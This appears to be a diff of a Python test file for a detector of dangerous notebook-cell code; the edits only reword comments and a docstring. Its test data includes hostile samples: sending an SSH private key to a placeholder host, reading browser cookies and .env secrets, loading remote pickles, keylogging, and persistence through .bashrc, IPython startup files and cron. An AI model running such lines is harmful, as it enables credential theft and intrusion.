@@ -1,4 +1,4 @@
-"""Kinds of danger in the calls of many libraries, and harmless code that looks alike: one cell, and the set-up before."""
+"""Dangerous calls of many libraries, and harmless code that looks similar: in one cell or two."""
 
 from __future__ import annotations
 
@@ -132,7 +132,7 @@ DANGEROUS = [
     ("from pathlib import Path\nn = 0", "while True:\n    Path(f'x{n}').write_text('a' * 10**6)\n    n += 1"),
     ("import numpy as np\nxs = []", "while True:\n    xs.append(np.zeros((1000, 1000)))"),
     ("import socket", "while True:\n    s = socket.socket()\n    s.connect(('10.0.0.1', 80))"),
-    # objects from elsewhere, and input devices
+    # objects from other sources, and input devices
     ("import zmq\ns = zmq.Context().socket(zmq.PULL)\ns.bind('tcp://0.0.0.0:5557')", "t = s.recv_pyobj()"),
     ("from multiprocessing.connection import Client\nc = Client(('10.0.0.1', 6000))", "c.recv()"),
     ("from pynput import keyboard\nl = keyboard.Listener(on_press=print)", "l.start()"),
@@ -193,7 +193,7 @@ DANGEROUS = [
     ("import numpy as np\nopts = {'allow_pickle': True}", "np.load('x.npy', **opts)"),
     ("import yaml\nL = yaml.UnsafeLoader", "yaml.load(open('x.yml'), Loader=L)"),
     ("import cloudpickle as cp, urllib.request as u", "f = cp.load(u.urlopen('http://x.example/f'))"),
-    # data that leaves
+    # data sent to other computers
     ("import requests\npost = requests.post", "post('https://x.example/in', files={'f': open('/home/u/.ssh/id_rsa')})"),
     ("import boto3\ns3 = boto3.resource('s3')", "s3.Bucket('ext').upload_file('data/all.csv', 'all.csv')"),
     ("import smtplib\ns = smtplib.SMTP('mx')\nfrom email.message import EmailMessage\nm = EmailMessage()", "s.send_message(m)"),
@@ -211,7 +211,7 @@ DANGEROUS = [
     ("import sqlite3, os\np = os.path.expanduser('~/.mozilla/firefox/x/cookies.sqlite')", "sqlite3.connect(p).execute('select * from moz_cookies').fetchall()"),
     ("import toml\np = '.streamlit/secrets.toml'", "print(toml.load(p))"),
     ("from dotenv import dotenv_values\nimport pandas as pd", "pd.DataFrame(dotenv_values('.env').items())"),
-    # what stays
+    # persistent changes
     ("from pathlib import Path\nrc = Path.home() / '.bashrc'", "with rc.open('a') as f:\n    f.write('alias ls=x')"),
     ("import IPython.paths as p, os\nd = os.path.join(p.get_ipython_dir(), 'profile_default/startup')", "open(os.path.join(d, '0.py'), 'w').write('x')"),
     ("from crontab import CronTab\nc = CronTab(user=True)", "j = c.new(command='x')\nc.write()"),
@@ -477,7 +477,7 @@ def test_none_of_many_values_of_a_name_is_lost(count, share):
     assert is_high("".join(f"p = {value!r}\n" for value in values) + "open(p)")
 
 
-def test_the_first_letters_of_a_secret_and_its_length_are_no_secret():
+def test_printing_a_prefix_and_the_length_of_a_secret_is_not_high():
     assert not is_high("import os\nkey = os.environ['API_KEY']\nprint(key[:3], len(key))")
     assert is_high("import os\nkey = os.environ['API_KEY']\nprint(key[0] + key)")
 
